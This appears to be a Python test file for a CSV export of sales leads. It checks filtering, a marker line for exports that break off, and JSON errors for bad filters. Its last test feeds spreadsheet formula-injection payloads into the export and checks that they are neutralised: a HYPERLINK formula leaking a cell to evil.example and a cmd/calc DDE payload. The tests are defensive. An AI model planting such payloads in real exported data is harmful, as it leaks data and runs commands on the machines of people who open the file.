"""Leads are exported as CSV."""

from __future__ import annotations

import csv
import io

import pytest

from app.models import Lead
from app.schemas.csv_export import BROKE_OFF, lines
from app.schemas.leads import LeadOut
from app.services.leads import query

NOON = 1_780_000_000


def rows(client, account, **query):
    bearer = {"Authorization": f"Bearer {account.key}"}
    answer = client.get("/api/leads/export.json", query_string=query, headers=bearer)
    assert answer.mimetype == "text/csv"
    assert "leads.csv" in answer.headers["Content-Disposition"]
    return list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))


@pytest.fixture
def small_parts(monkeypatch):
    monkeypatch.setattr(query, "PART", 2)


@pytest.mark.usefixtures("small_parts")
def test_an_export_is_the_list_in_csv(api, client, account, world, others_world):
    campaign = world.campaign()
    for number in range(5):
        world.lead(campaign, click='a,"b', start_time=NOON + number)
    others_world.lead(others_world.campaign())
    listed = api.get("leads/list")["data"]
    assert rows(client, account) == [
        {name: str(value) for name, value in row.items()} for row in listed
    ]
    assert len(rows(client, account, **{"from": NOON + 3})) == 2
    assert rows(client, account, campaign=world.campaign()) == []


def test_an_export_that_breaks_off_says_so_in_its_last_line(app):
    def parts():
        yield [Lead(id=7, campaign_id=1, subscriber=5, state=2, start_time=NOON, updated=NOON)]
        raise OSError("the database is gone")

    head, first, last = lines(LeadOut(many=True), parts())
    assert head.startswith("id,campaign,")
    assert first.startswith("7,1,5,")
    assert last == f"{BROKE_OFF}\r\n"


def test_a_wrong_filter_of_an_export_is_answered_in_json(api):
    assert api.get("leads/export", status=9)["field"] == "status"


@pytest.mark.parametrize(
    ("click", "shown"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
        ("@SUM(1)", "'@SUM(1)"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-12", "-12"),
        ("plain=1", "plain=1"),
    ],
)
def test_a_spreadsheet_runs_nothing_that_people_have_typed(client, account, world, click, shown):
    world.lead(world.campaign(), click=click)
    assert [row["click"] for row in rows(client, account)] == [shown]
